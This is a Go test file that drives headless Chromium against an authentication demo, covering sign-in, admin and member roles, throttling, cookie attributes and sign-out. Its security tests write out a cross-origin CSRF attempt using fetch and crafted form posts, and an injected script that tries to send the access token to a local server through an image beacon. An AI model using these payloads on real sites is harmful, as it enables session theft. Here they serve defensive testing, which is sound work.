package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/fetch"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/latchkey-dev/latchkey"
)

// The sign-in page in real headless Chromium, driven over the DevTools
// protocol, against the real demo: what a person does with the page, and
// what a hostile page on another origin and an injected script try.
//
// Without chromium the tests skip, saying so; with CI=true or
// LATCHKEY_REQUIRE_BROWSER=1 they fail instead, so CI cannot go green
// without them. A failed step saves a screenshot in the directory the test
// log names (LATCHKEY_BROWSER_ARTIFACTS, or a new one under the temporary
// directory). LATCHKEY_SCREENSHOT=docs/page.png saves the signed-in page,
// for the README.

// stepTimeout bounds one step: a page load, a click and what it sets off.
const stepTimeout = 15 * time.Second

func browserRequired() bool {
	return os.Getenv("CI") == "true" || os.Getenv("LATCHKEY_REQUIRE_BROWSER") == "1"
}

// chromiumPath finds the browser, or skips (fails, in CI) saying why.
func chromiumPath(tb testing.TB) string {
	tb.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if browserRequired() {
		tb.Fatal("chromium is not installed, and CI=true or LATCHKEY_REQUIRE_BROWSER=1 makes the browser tests mandatory: install it (apt-get install chromium)")
	}
	tb.Skip("chromium is not installed: skipping the browser tests (LATCHKEY_REQUIRE_BROWSER=1 makes this a failure)")
	return ""
}

// browser is one Chromium process; each scenario opens its tabs in a
// browser context of its own, with its own cookies, storage and locks, as
// another person's browser would have.
type browser struct {
	ctx       context.Context
	artifacts string
}

func newTestBrowser(tb testing.TB) *browser {
	tb.Helper()
	exe := chromiumPath(tb)
	if testing.Short() && !browserRequired() {
		tb.Skip("the browser tests start chromium; skipped in -short")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe),
		chromedp.UserDataDir(tb.TempDir()), // a fresh profile: no cookie or cache from an earlier run
		chromedp.Flag("headless", true),
		chromedp.Flag("no-sandbox", true), // CI runs as root, where the sandbox cannot start
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("no-first-run", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.WindowSize(1280, 900),
	)
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancel := chromedp.NewContext(actx)
	if err := chromedp.Do(ctx); err != nil {
		cancel()
		cancelAlloc()
		tb.Fatalf("start %s: %v", exe, err)
	}
	tb.Cleanup(func() { cancel(); cancelAlloc() })

	dir := os.Getenv("LATCHKEY_BROWSER_ARTIFACTS")
	if dir == "" {
		dir = filepath.Join(os.TempDir(), "latchkey-browser-"+time.Now().Format("20060102-150405"))
	}
	tb.Logf("browser: %s; screenshots of failed steps go to %s", exe, dir)
	return &browser{ctx: ctx, artifacts: dir}
}

// exchange is one request a tab made, as the DevTools protocol saw it.
type exchange struct {
	method, url   string
	authorization string
	status        int64
	failed        string
	sent, done    float64 // the browser's monotonic clock, in seconds
}

// tab is one browser tab, recording what it sends and logs.
type tab struct {
	t    *testing.T
	b    *browser
	name string
	ctx  context.Context

	mu    sync.Mutex
	byID  map[network.RequestID]*exchange
	order []*exchange
	logs  []string
}

// newTab opens a tab in a browser context of its own.
func (b *browser) newTab(t *testing.T, name string) *tab {
	t.Helper()
	ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	return b.start(t, name, ctx)
}

// sibling opens a second tab of the same browser context: the same person
// with the page open twice, sharing the cookie.
func (tb *tab) sibling(name string) *tab {
	tb.t.Helper()
	ctx, cancel := chromedp.NewContext(tb.ctx)
	tb.t.Cleanup(cancel)
	return tb.b.start(tb.t, name, ctx)
}

func (b *browser) start(t *testing.T, name string, ctx context.Context) *tab {
	t.Helper()
	tb := &tab{t: t, b: b, name: name, ctx: ctx, byID: map[network.RequestID]*exchange{}}
	err := chromedp.Listen(ctx, func(ev any) {
		tb.mu.Lock()
		defer tb.mu.Unlock()
		switch e := ev.(type) {
		case *network.EventRequestWillBeSent:
			x := &exchange{method: e.Request.Method, url: e.Request.URL, sent: float64(e.Timestamp)}
			if a, ok := e.Request.Headers["Authorization"]; ok {
				x.authorization = fmt.Sprint(a)
			}
			tb.byID[e.RequestID] = x
			tb.order = append(tb.order, x)
		case *network.EventResponseReceived:
			if x := tb.byID[e.RequestID]; x != nil {
				x.status = e.Response.Status
			}
		case *network.EventLoadingFinished:
			if x := tb.byID[e.RequestID]; x != nil {
				x.done = float64(e.Timestamp)
			}
		case *network.EventLoadingFailed:
			if x := tb.byID[e.RequestID]; x != nil {
				x.failed, x.done = e.ErrorText, float64(e.Timestamp)
			}
		case *runtime.EventExceptionThrown:
			tb.logs = append(tb.logs, "exception: "+e.ExceptionDetails.Text+" "+describeException(e.ExceptionDetails))
		case *cdplog.EventEntryAdded:
			tb.logs = append(tb.logs, string(e.Entry.Level)+": "+e.Entry.Text)
		}
	})
	if err != nil {
		t.Fatalf("%s: open a tab: %v", name, err)
	}
	return tb
}

func describeException(d *runtime.ExceptionDetails) string {
	if d.Exception != nil {
		return d.Exception.Description
	}
	return ""
}

// fail saves a screenshot of the tab and fails the test, naming the step,
// the screenshot and what the page logged.
func (tb *tab) fail(step, format string, args ...any) {
	tb.t.Helper()
	shot := tb.screenshot(step)
	tb.mu.Lock()
	logs := strings.Join(tb.logs, "\n  ")
	tb.mu.Unlock()
	tb.t.Fatalf("%s, step %q: %s\n  screenshot: %s\n  the page logged:\n  %s", tb.name, step, fmt.Sprintf(format, args...), shot, logs)
}

var unsafeName = regexp.MustCompile(`[^A-Za-z0-9._-]+`)

func (tb *tab) screenshot(step string) string {
	ctx, cancel := context.WithTimeout(tb.ctx, 5*time.Second)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		return "none (" + err.Error() + ")"
	}
	if err := os.MkdirAll(tb.b.artifacts, 0o755); err != nil {
		return "none (" + err.Error() + ")"
	}
	path := filepath.Join(tb.b.artifacts, unsafeName.ReplaceAllString(tb.t.Name()+"-"+tb.name+"-"+step, "_")+".png")
	if err := os.WriteFile(path, png, 0o644); err != nil {
		return "none (" + err.Error() + ")"
	}
	return path
}

// do runs the actions of one step.
func (tb *tab) do(step string, actions ...chromedp.Action[chromedp.Void]) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		tb.fail(step, "%v", err)
	}
}

// eval evaluates a JavaScript expression in the page (awaiting a promise)
// and decodes its value.
func eval[T any](tb *tab, step, expr string) T {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		tb.fail(step, "evaluate %s: %v", expr, err)
	}
	return v
}

// waitFor waits until the expression is true. It polls from Go: chromedp's
// own Poll builds its predicate with new Function, which the page's CSP
// forbids, as it should.
func (tb *tab) waitFor(step, cond string) {
	tb.t.Helper()
	deadline := time.Now().Add(stepTimeout)
	var last error
	for {
		ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](cond))
		cancel()
		if err == nil && ok {
			return
		}
		last = err
		if time.Now().After(deadline) {
			tb.fail(step, "after %s, still not true: %s (last error: %v)", stepTimeout, cond, last)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// shown is true when the element is displayed: neither it nor an ancestor
// is hidden.
func shown(id string) string {
	return fmt.Sprintf(`(el => !!el && !el.closest('[hidden]'))(document.getElementById(%q))`, id)
}

func textOf(id string) string {
	return fmt.Sprintf(`document.getElementById(%q).textContent`, id)
}

func (tb *tab) text(id string) string {
	tb.t.Helper()
	return eval[string](tb, "read #"+id, textOf(id))
}

// exchanges returns the requests whose URL has the path and whose method
// is method ("" for any).
func (tb *tab) exchanges(method, path string) []exchange {
	tb.mu.Lock()
	defer tb.mu.Unlock()
	var out []exchange
	for _, x := range tb.order {
		u, err := url.Parse(x.url)
		if err == nil && u.Path == path && (method == "" || x.method == method) {
			out = append(out, *x)
		}
	}
	return out
}

// refreshCookie is the latchkey_refresh cookie as the browser holds it,
// read over the DevTools protocol: the page itself cannot read it.
func (tb *tab) refreshCookie(authURL string) *network.Cookie {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
	defer cancel()
	res, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{authURL + "/session/refresh"}})
	if err != nil {
		tb.fail("read the cookies", "%v", err)
	}
	for _, c := range res.Cookies {
		if c.Name == "latchkey_refresh" {
			return c
		}
	}
	return nil
}

// The page, step by step.

// typeInto empties a field and types text into it, key by key. (chromedp's
// SetValue reports an empty value as a failure.)
func typeInto(id, text string) chromedp.Action[chromedp.Void] {
	return chromedp.Steps(
		chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`document.getElementById(%q).value = ''`, id)),
		chromedp.SendKeys(chromedp.ID(id), text))
}

func (tb *tab) open(pageURL string) {
	tb.t.Helper()
	tb.do("open the page", chromedp.Navigate(pageURL))
	tb.waitFor("the page has started", `document.getElementById('loading').hidden`)
}

// signIn types the credentials as a person would, and presses Enter.
func (tb *tab) signIn(user, pass string) {
	tb.t.Helper()
	tb.enterPassword(user, pass)
	tb.waitSignedIn(user)
}

// enterPassword is the first step of signing in, for a user with two-step
// sign-in on the whole of it.
func (tb *tab) enterPassword(user, pass string) {
	tb.t.Helper()
	tb.waitFor("the sign-in form shows", shown("signin-form"))
	tb.do("type "+user+"'s credentials and press Enter",
		typeInto("signin-username", user),
		typeInto("signin-password", pass+"\r"))
}

func (tb *tab) waitSignedIn(user string) {
	tb.t.Helper()
	tb.waitFor("signed in as "+user, fmt.Sprintf(`%s && %s === %q`, shown("signed-in"), textOf("whoami-username"), user))
}

// enterCode waits for the second step of signing in and answers it.
func (tb *tab) enterCode(code string) {
	tb.t.Helper()
	tb.waitFor("the code step shows", fmt.Sprintf(`%s && !%s`, shown("mfa-form"), shown("signin-form")))
	tb.do("type the code "+code+" and press Enter", typeInto("mfa-code", code+"\r"))
}

// bookTitles lists the titles in the books table once it has them.
func (tb *tab) bookTitles(step string, n int) []string {
	tb.t.Helper()
	tb.waitFor(step, fmt.Sprintf(`document.querySelectorAll('#books-body tr').length === %d`, n))
	return eval[[]string](tb, step, `[...document.querySelectorAll('#books-body tr td:first-child')].map(td => td.textContent)`)
}

// noTokenReadable checks every place a script could read a token from:
// document.cookie (on the page and on a document under /session, the
// cookie's path), localStorage and sessionStorage.
func (tb *tab) noTokenReadable(authURL, when string) {
	tb.t.Helper()
	got := eval[map[string]string](tb, "read the storage "+when, `(async () => {
		const frame = document.createElement('iframe');
		frame.src = '/session/refresh';
		const loaded = new Promise(r => frame.addEventListener('load', r, { once: true }));
		document.body.append(frame);
		await loaded;
		const dump = s => JSON.stringify(Object.fromEntries(Object.keys(s).map(k => [k, s.getItem(k)])));
		const out = {
			cookie: document.cookie,
			sessionPathCookie: frame.contentDocument.cookie,
			localStorage: dump(localStorage),
			sessionStorage: dump(sessionStorage),
		};
		frame.remove();
		return out;
	})()`)
	secrets := []string{"eyJ"} // every JWT starts so: base64url of {"
	if c := tb.refreshCookie(authURL); c != nil {
		secrets = append(secrets, c.Value)
	}
	for where, v := range got {
		for _, s := range secrets {
			if strings.Contains(v, s) {
				tb.fail("read the storage "+when, "%s holds a token: %q", where, v)
			}
		}
	}
	for _, where := range []string{"localStorage", "sessionStorage"} {
		if got[where] != "{}" {
			tb.fail("read the storage "+when, "%s is not empty: %s", where, got[where])
		}
	}
	if got["cookie"] != "" || got["sessionPathCookie"] != "" {
		tb.fail("read the storage "+when, "a script reads cookies: %q and %q under /session", got["cookie"], got["sessionPathCookie"])
	}
}

// claims decodes the payload of the access token the page shows.
func (tb *tab) claims() map[string]any {
	tb.t.Helper()
	tok := tb.text("token-encoded")
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		tb.fail("read the access token", "the page shows %q, not a JWT", tok)
	}
	b, err := base64.RawURLEncoding.DecodeString(parts[1])
	var m map[string]any
	if err == nil {
		err = json.Unmarshal(b, &m)
	}
	if err != nil {
		tb.fail("read the access token", "payload: %v", err)
	}
	return m
}

func refreshCount(tb *tab) int {
	tb.t.Helper()
	return eval[int](tb, "read the refresh count", `Number(document.getElementById('token-refreshes').textContent)`)
}

// afterLoad drops the refresh a tab makes when it opens without a cookie,
// answered 401: the page asks, as it cannot read the cookie to know.
func afterLoad(refreshes []exchange) []exchange {
	if len(refreshes) > 0 && refreshes[0].status == 401 {
		return refreshes[1:]
	}
	return refreshes
}

// postJSON calls a demo server from Go, as curl would.
func postJSON(tb testing.TB, url string, body any, headers ...string) (int, []byte) {
	tb.Helper()
	return callJSON(tb, "POST", url, body, headers...)
}

// callJSON is postJSON with another method.
func callJSON(tb testing.TB, method, url string, body any, headers ...string) (int, []byte) {
	tb.Helper()
	b, _ := json.Marshal(body)
	req, _ := http.NewRequest(method, url, strings.NewReader(string(b)))
	if body == nil {
		req, _ = http.NewRequest(method, url, nil)
	} else {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		tb.Fatal(err)
	}
	defer res.Body.Close()
	out, _ := io.ReadAll(res.Body)
	return res.StatusCode, out
}

// repoPath resolves a path given relative to the repository root.
func repoPath(tb testing.TB, p string) string {
	tb.Helper()
	if filepath.IsAbs(p) {
		return p
	}
	dir, err := os.Getwd()
	if err != nil {
		tb.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return filepath.Join(dir, p)
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			tb.Fatalf("no go.mod above the working directory to resolve %s against", p)
		}
		dir = parent
	}
}

// TestBrowser runs the page as people use it, and as attackers try to.
// One demo with the default lifetimes serves the scenarios where nothing
// should refresh on its own; a second, with 3-second access tokens and no
// grace window, serves those about refreshing, where any race between
// tabs would show as a revoked session.
func TestBrowser(t *testing.T) {
	b := newTestBrowser(t)
	authURL, _, _ := startDemo(t, t.TempDir(), nil)
	page := authURL + "/"

	t.Run("john sees the three books, and adds, edits and deletes one", func(t *testing.T) {
		tb := b.newTab(t, "john")
		tb.open(page)
		tb.signIn("john", "password123admin")
		titles := tb.bookTitles("the seed books are listed", 3)
		if strings.Join(titles, "|") != "Things Fall Apart|Fairy tales|The Divine Comedy" {
			tb.fail("the seed books are listed", "titles %q", titles)
		}
		if got := tb.text("whoami-role"); got != "admin" {
			tb.fail("who am I", "role %q", got)
		}
		tb.noTokenReadable(authURL, "after signing in")

		tb.do("add a book",
			chromedp.SendKeys(chromedp.ID("book-title"), "No Longer at Ease"),
			chromedp.SendKeys(chromedp.ID("book-author"), "Chinua Achebe"),
			chromedp.SendKeys(chromedp.ID("book-country"), "Nigeria"),
			chromedp.SendKeys(chromedp.ID("book-language"), "English"),
			chromedp.SendKeys(chromedp.ID("book-pages"), "194"),
			chromedp.SendKeys(chromedp.ID("book-year"), "1960"),
			chromedp.Click(chromedp.ID("book-submit")))
		if titles := tb.bookTitles("the new book is listed", 4); titles[3] != "No Longer at Ease" {
			tb.fail("the new book is listed", "titles %q", titles)
		}
		tb.waitFor("the page says it was added", fmt.Sprintf(`%s && %s.includes('Added')`, shown("books-notice"), textOf("books-notice")))

		tb.do("edit it", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Edit"]`)))
		tb.waitFor("the form holds the book", `document.getElementById('book-title').value === 'No Longer at Ease'`)
		tb.do("change the title and save",
			typeInto("book-title", "No Longer at Ease (first edition)"),
			chromedp.Click(chromedp.ID("book-submit")))
		tb.waitFor("the table shows the new title", `document.querySelector('#books-body tr:last-child td').textContent === 'No Longer at Ease (first edition)'`)

		if p := os.Getenv("LATCHKEY_SCREENSHOT"); p != "" {
			ctx, cancel := context.WithTimeout(tb.ctx, stepTimeout)
			png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
			cancel()
			if err != nil {
				tb.fail("screenshot for the docs", "%v", err)
			}
			path := repoPath(t, p)
			if err := os.WriteFile(path, png, 0o644); err != nil {
				t.Fatal(err)
			}
			t.Logf("wrote the page's screenshot to %s", path)
		}

		tb.do("delete it", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Delete"]`)))
		tb.do("confirm", chromedp.Click(chromedp.CSS(`#books-body tr:last-child button[aria-label^="Yes, delete"]`)))
		if titles := tb.bookTitles("the book is gone", 3); strings.Contains(strings.Join(titles, "|"), "No Longer") {
			tb.fail("the book is gone", "titles %q", titles)
		}
		// The server agrees: a reload of the list shows three.
		tb.do("reload the list", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("the server has three books", 3)
	})

	t.Run("anna sees no admin controls, and a forced request gets 403", func(t *testing.T) {
		tb := b.newTab(t, "anna")
		tb.open(page)
		tb.signIn("anna", "password123member")
		tb.bookTitles("the books are listed", 3)
		hidden := eval[map[string]bool](tb, "look for admin controls", `({
			form: !!document.getElementById('book-form').closest('[hidden]'),
			buttons: document.querySelectorAll('#books-body button').length === 0,
			column: [...document.querySelectorAll('.admin-only')].every(el => el.closest('[hidden]')),
			note: !document.getElementById('books-member-note').closest('[hidden]'),
		})`)
		for what, ok := range hidden {
			if !ok {
				tb.fail("look for admin controls", "%s: a member sees admin controls, or not the note (%v)", what, hidden)
			}
		}
		// What a curious member does in the developer tools: show the
		// hidden form and send it.
		tb.do("force the hidden form open and send it",
			chromedp.RemoveAttribute(chromedp.ID("book-form"), "hidden"),
			chromedp.SendKeys(chromedp.ID("book-title"), "Forced"),
			chromedp.SendKeys(chromedp.ID("book-author"), "Anna"),
			chromedp.SendKeys(chromedp.ID("book-pages"), "1"),
			chromedp.SendKeys(chromedp.ID("book-year"), "2026"),
			chromedp.Click(chromedp.ID("book-submit")))
		tb.waitFor("the page explains the refusal", shown("book-form-error"))
		msg := tb.text("book-form-error")
		if !strings.Contains(msg, "Only admins") || !strings.Contains(msg, "403") || !strings.Contains(msg, "anna") {
			tb.fail("the page explains the refusal", "message %q", msg)
		}
		var statuses []int64
		for _, x := range tb.exchanges("POST", "/books") {
			statuses = append(statuses, x.status)
		}
		if len(statuses) != 1 || statuses[0] != 403 {
			tb.fail("the books server refused", "POST /books answered %v, want one 403", statuses)
		}
		tb.do("reload the list", chromedp.Click(chromedp.ID("books-reload")))
		tb.bookTitles("nothing was added", 3)
	})

	t.Run("register, wrong password and throttling say what happened", func(t *testing.T) {
		tb := b.newTab(t, "newcomer")
		tb.open(page)
		tb.do("register maria",
			chromedp.SendKeys(chromedp.ID("register-username"), "maria"),
			chromedp.SendKeys(chromedp.ID("register-password"), "password123maria"),
			chromedp.Click(chromedp.ID("register-submit")))
		tb.waitFor("signed in as the new member", fmt.Sprintf(`%s === 'maria' && %s === 'member'`, textOf("whoami-username"), textOf("whoami-role")))
		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.waitFor("the sign-in form is back", shown("signin-form"))

		tb.do("a wrong password",
			typeInto("signin-username", "maria"),
			typeInto("signin-password", "not-her-password\r"))
		tb.waitFor("the page says the password is wrong", fmt.Sprintf(`%s === 'Wrong username or password.'`, textOf("signin-error")))

		// Spend the rest of maria's budget of failures from here, as a
		// script guessing her password would.
		for range 9 {
			if st, b := postJSON(t, authURL+"/login", map[string]string{"username": "maria", "password": "guess-guess"}); st != 401 {
				t.Fatalf("guess: %d %s", st, b)
			}
		}
		tb.do("one more try", chromedp.SendKeys(chromedp.ID("signin-password"), "password123maria\r"))
		tb.waitFor("the page gives the wait", fmt.Sprintf(`/Try again in \d+ (s|min)/.test(%s)`, textOf("signin-error")))
		if !eval[bool](tb, "the button waits too", `document.getElementById('signin-submit').disabled`) {
			tb.fail("the button waits too", "the sign-in button is enabled during the wait")
		}
	})

	t.Run("a reload keeps the session", func(t *testing.T) {
		tb := b.newTab(t, "reload")
		tb.open(page)
		tb.signIn("john", "password123admin")
		before := tb.claims()["sid"]
		tb.do("reload", chromedp.Reload())
		tb.waitFor("signed in again without a password", fmt.Sprintf(`%s && %s === 'john'`, shown("signed-in"), textOf("whoami-username")))
		if after := tb.claims()["sid"]; after != before {
			tb.fail("the same session", "session %v became %v", before, after)
		}
		tb.bookTitles("the books load", 3)
		tb.noTokenReadable(authURL, "after the reload")
	})

	t.Run("sign-out returns to the form and kills the cookie", func(t *testing.T) {
		tb := b.newTab(t, "signout")
		tb.open(page)
		tb.signIn("john", "password123admin")
		c := tb.refreshCookie(authURL)
		if c == nil || !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict || c.Path != "/session" || c.Secure {
			tb.fail("the cookie's attributes", "cookie %+v, want HttpOnly, SameSite=Strict, Path=/session, not Secure over http", c)
		}
		if left := time.Until(time.Unix(int64(c.Expires), 0)); left < 6*24*time.Hour || left > 7*24*time.Hour+time.Minute {
			tb.fail("the cookie's lifetime", "expires in %s, want the 7-day refresh idle lifetime", left)
		}
		tb.do("sign out", chromedp.Click(chromedp.ID("signout")))
		tb.waitFor("the sign-in form is back", fmt.Sprintf(`%s && %s === 'You are signed out.'`, shown("signin-form"), textOf("notice")))
		if c := tb.refreshCookie(authURL); c != nil {
			tb.fail("the cookie is gone", "the browser still holds %s", c.Name)
		}
		tb.noTokenReadable(authURL, "after signing out")
		// The token the cookie held is dead on the server, not only
		// forgotten by the browser.
		st, body := postJSON(t, authURL+"/session/refresh", nil, "Origin", authURL, "X-Latchkey-CSRF", "1", "Cookie", "latchkey_refresh="+c.Value)
		if st != 401 || !strings.Contains(string(body), "invalid_grant") {
			t.Errorf("a direct /session/refresh with the old cookie: %d %s, want 401 invalid_grant", st, body)
		}
		tb.do("reload", chromedp.Reload())
		tb.waitFor("still signed out after a reload", shown("signin-form"))
	})

	t.Run("sign out everywhere ends the other devices' sessions", func(t *testing.T) {
		laptop := b.newTab(t, "laptop")
		phone := b.newTab(t, "phone")
		laptop.open(page)
		laptop.signIn("anna", "password123member")
		phone.open(page)
		phone.signIn("anna", "password123member")
		laptop.do("sign out everywhere", chromedp.Click(chromedp.ID("signout-all")))
		laptop.waitFor("the laptop is signed out", fmt.Sprintf(`%s && %s.includes('every device')`, shown("signin-form"), textOf("notice")))
		if got := laptop.exchanges("POST", "/logout/all"); len(got) != 1 || got[0].status != 204 || !strings.HasPrefix(got[0].authorization, "Bearer ") {
			laptop.fail("POST /logout/all with the Bearer token", "%+v", got)
		}
		phone.do("the phone asks who it is", chromedp.Reload())
		phone.waitFor("the phone is signed out too", shown("signin-form"))
	})

	t.Run("a page of another origin cannot refresh, log in or log out", func(t *testing.T) {
		if st, b := postJSON(t, authURL+"/register", map[string]string{"username": "mallory", "password": "password123mallory"}); st != 201 {
			t.Fatalf("register mallory: %d %s", st, b)
		}
		hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, `<!doctype html><title>You won a prize</title><h1>Claim your prize</h1><iframe name="sink" id="sink"></iframe>`)
		}))
		defer hostile.Close()
		_, port, _ := strings.Cut(strings.TrimPrefix(hostile.URL, "http://"), ":")

		victim := b.newTab(t, "victim")
		victim.open(page)
		victim.signIn("john", "password123admin")
		before := victim.refreshCookie(authURL)
		if before == nil {
			victim.fail("the victim's cookie", "none")
		}

		// Same site (only the port differs, so SameSite=Strict lets the
		// cookie go: Origin and the custom header alone must stop it), and
		// another site.
		for _, origin := range []string{hostile.URL, "http://localhost:" + port} {
			evil := victim.sibling("hostile page at " + origin)
			evil.do("open the hostile page", chromedp.Navigate(origin+"/"))
			results := eval[[]string](evil, "attack", fmt.Sprintf(`(async (auth) => {
				const out = [];
				const login = JSON.stringify({ username: 'mallory', password: 'password123mallory' });
				for (const path of ['/session/refresh', '/session/logout', '/session/login']) {
					const body = path === '/session/login' ? login : undefined;
					const tries = {
						simple: { method: 'POST', credentials: 'include', body, headers: body ? { 'Content-Type': 'text/plain' } : {} },
						preflighted: { method: 'POST', credentials: 'include', body, headers: { 'Content-Type': 'application/json', 'X-Latchkey-CSRF': '1' } },
						'no-cors': { method: 'POST', credentials: 'include', body, mode: 'no-cors', headers: { 'X-Latchkey-CSRF': '1' } },
					};
					for (const [name, opts] of Object.entries(tries)) {
						try {
							const r = await fetch(auth + path, opts);
							out.push(name + ' ' + path + ': ' + (r.type === 'opaque' ? 'opaque' : 'READ ' + r.status));
						} catch {
							out.push(name + ' ' + path + ': blocked');
						}
					}
					for (const enctype of ['application/x-www-form-urlencoded', 'text/plain']) {
						const f = document.createElement('form');
						f.method = 'POST';
						f.action = auth + path;
						f.target = 'sink';
						f.enctype = enctype;
						const i = document.createElement('input');
						i.name = '{"username":"mallory","password":"password123mallory","x":"';
						i.value = '"}';
						f.append(i);
						document.body.append(f);
						const frame = document.getElementById('sink');
						const loaded = new Promise(r => frame.addEventListener('load', r, { once: true }));
						f.submit();
						await loaded;
						f.remove();
						out.push('form ' + enctype + ' ' + path + ': sent');
					}
				}
				return out;
			})(%q)`, authURL))
			for _, r := range results {
				if strings.Contains(r, "READ") {
					evil.fail("attack", "the hostile page read an answer: %s", r)
				}
			}
			// What reached the auth server was refused; a preflight got no
			// CORS permission, so its POST was never sent.
			if origin == hostile.URL { // a cross-site frame's requests are another process's, out of this tab's view
				for _, path := range []string{"/session/refresh", "/session/logout", "/session/login"} {
					// The no-cors fetch and the two forms show their 403;
					// the simple fetch's 403 is hidden behind its CORS
					// failure, and the preflighted one never left.
					posts := evil.exchanges("POST", path)
					refused := 0
					for _, x := range posts {
						switch {
						case x.status == 403:
							refused++
						case x.status != 0 || x.failed == "":
							evil.fail("attack", "POST %s from %s answered %d", path, origin, x.status)
						}
					}
					if refused < 3 {
						evil.fail("attack", "only %d refused POSTs to %s reached the server: %+v", refused, path, posts)
					}
					for _, x := range evil.exchanges("OPTIONS", path) {
						if x.status >= 200 && x.status < 300 {
							evil.fail("attack", "the preflight of %s from %s was allowed (%d)", path, origin, x.status)
						}
					}
				}
			}
			after := victim.refreshCookie(authURL)
			if after == nil || after.Value != before.Value {
				victim.fail("the victim's cookie after the attack from "+origin, "the cookie changed or went: the attack refreshed, logged in or logged out")
			}
		}
		// The victim's session is intact: it still refreshes, as john.
		n := refreshCount(victim)
		victim.do("refresh now", chromedp.Click(chromedp.ID("token-refresh")))
		victim.waitFor("the session still refreshes", fmt.Sprintf(`Number(%s) === %d`, textOf("token-refreshes"), n+1))
		if u := victim.claims()["username"]; u != "john" {
			victim.fail("still john", "the session is %v's", u)
		}
	})

	t.Run("the CSP blocks an injected script", func(t *testing.T) {
		var exfiltrated atomic.Int32
		sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { exfiltrated.Add(1) }))
		defer sink.Close()
		tb := b.newTab(t, "injected")
		tb.open(page)
		tb.signIn("john", "password123admin")
		// Markup an attacker got into the page: an inline script, an
		// inline handler, a script and an image from elsewhere.
		got := eval[map[string]any](tb, "inject", fmt.Sprintf(`(async (sink) => {
			const seen = [];
			document.addEventListener('securitypolicyviolation', e => seen.push(e.violatedDirective));
			const s = document.createElement('script');
			s.textContent = "window.__stolen = document.getElementById('token-encoded').textContent";
			document.body.append(s);
			const img = document.createElement('img');
			img.setAttribute('src', 'no-such-image.png');
			img.setAttribute('onerror', 'window.__handler = 1');
			document.body.append(img);
			const ext = document.createElement('script');
			ext.src = sink + '/evil.js';
			document.body.append(ext);
			const beacon = document.createElement('img');
			beacon.src = sink + '/steal.png?t=' + encodeURIComponent(document.getElementById('token-encoded').textContent);
			document.body.append(beacon);
			await new Promise(r => setTimeout(r, 500));
			return { ran: window.__stolen !== undefined || window.__handler !== undefined, seen };
		})(%q)`, sink.URL))
		if got["ran"] != false {
			tb.fail("inject", "injected code ran: %v", got)
		}
		seen := fmt.Sprint(got["seen"])
		for _, directive := range []string{"script-src-elem", "script-src-attr", "img-src"} {
			if !strings.Contains(seen, directive) {
				tb.fail("inject", "no %s violation reported: %v", directive, got)
			}
		}
		if n := exfiltrated.Load(); n != 0 {
			t.Errorf("%d requests reached the attacker's server", n)
		}
	})

	t.Run("keyboard and phone", func(t *testing.T) {
		tb := b.newTab(t, "keyboard")
		tb.open(page)
		tb.waitFor("the sign-in form shows", shown("signin-form"))
		// Every field has a label a screen reader reads.
		if unlabelled := eval[[]string](tb, "labels", `[...document.querySelectorAll('input, textarea')].filter(el => !el.labels || el.labels.length === 0).map(el => el.id)`); len(unlabelled) != 0 {
			tb.fail("labels", "fields without a label: %v", unlabelled)
		}
		tb.do("tab from the username to the password", chromedp.Focus(chromedp.ID("signin-username")), chromedp.KeyEvent("\t"))
		focus := eval[map[string]string](tb, "the focus is visible", `(() => { const el = document.activeElement; const s = getComputedStyle(el); return { id: el.id, outline: s.outlineStyle, width: s.outlineWidth }; })()`)
		if focus["id"] != "signin-password" || focus["outline"] == "none" || focus["width"] == "0px" {
			tb.fail("the focus is visible", "focus %v, want the password field with an outline", focus)
		}
